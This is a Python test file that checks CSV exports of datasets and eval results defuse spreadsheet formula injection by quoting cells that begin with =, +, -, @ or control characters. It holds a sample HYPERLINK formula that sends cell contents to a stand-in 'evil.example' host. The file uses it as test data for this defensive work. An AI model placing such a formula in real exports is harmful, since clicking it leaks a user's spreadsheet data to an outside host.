"""CSV exports never hand a spreadsheet a formula: such cells start with a single quote.

Dataset lines, model answers and eval names come from other people; a cell like
`=HYPERLINK("http://evil/?"&A1,"open")` became a live formula in Excel or Sheets.
"""

from __future__ import annotations

import csv
import io

from store import Store
from tests.jobs.helpers import sft_lines
from tests.sync.helpers import run_cli

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open me")'


def test_cells_that_start_like_formulas_are_text():
    from tui.core.csv_cells import csv_writer

    out = io.StringIO()
    csv_writer(out).writerow([HOSTILE, "+1+2", "-3", "@SUM(A1)", "\tx", "\rx", "plain", -1.5,
                              0, None, "a=b"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'" + HOSTILE, "'+1+2", "'-3", "'@SUM(A1)", "'\tx", "'\rx", "plain", "-1.5", "0", "",
        "a=b"]


def test_a_dataset_export_neutralises_a_hostile_invalid_line(tmp_path, capsys):
    from tui.core.dataset_versions import write_version

    db = tmp_path / "d.db"
    with Store(db) as store:
        write_version(store, "mixed", [*sft_lines(10), HOSTILE], model="gpt-4o-mini")
    out = tmp_path / "mixed.csv"
    assert run_cli(db, "export", "dataset", "mixed", "--all", "-o", str(out)) == 0
    rows = list(csv.DictReader(out.open(newline="")))
    [bad] = [r for r in rows if r["status"] != "valid"]
    assert bad["data"] == "'" + HOSTILE
    assert all(not r["data"].startswith(("=", "+", "-", "@")) for r in rows)


def test_eval_exports_neutralise_answers_items_and_criterion_names(tmp_path, capsys):
    from tests.evals.helpers import make_run
    from tui.core.evals.results_export import export_csv

    criterion = {"type": "string_check", "name": "@evil", "input": "{{sample.output_text}}",
                 "reference": "{{item.reference}}", "operation": "eq"}
    db = tmp_path / "e.db"
    with Store(db) as store:
        run = make_run(store, 1, criteria=[criterion])
        store.evals.record_result(
            run.id, 0, item={"question": "q"}, status="fail", error="-error text",
            sample={"output_text": HOSTILE, "choices": [{"message": {"content": HOSTILE}}]},
            results=[{"name": "@evil", "score": -1.0, "passed": False}])
        path = tmp_path / "run.csv"
        export_csv(store, run.id, path)
        ev_name = store.evals.get(run.eval_id).name
    for target in (path, tmp_path / "all.csv"):
        if target.name == "all.csv":  # `tunedeck export eval` writes its own CSV
            assert run_cli(db, "export", "eval", ev_name, "-o", str(target)) == 0
        header, row = list(csv.reader(target.open(newline="")))
        assert "'@evil.score" in header and "@evil.score" not in header
        cells = dict(zip(header, row, strict=True))
        assert cells["output_text"] == "'" + HOSTILE
        assert cells["error"] == "'-error text"
        assert cells["'@evil.score"] == "-1.0"  # a number stays a number
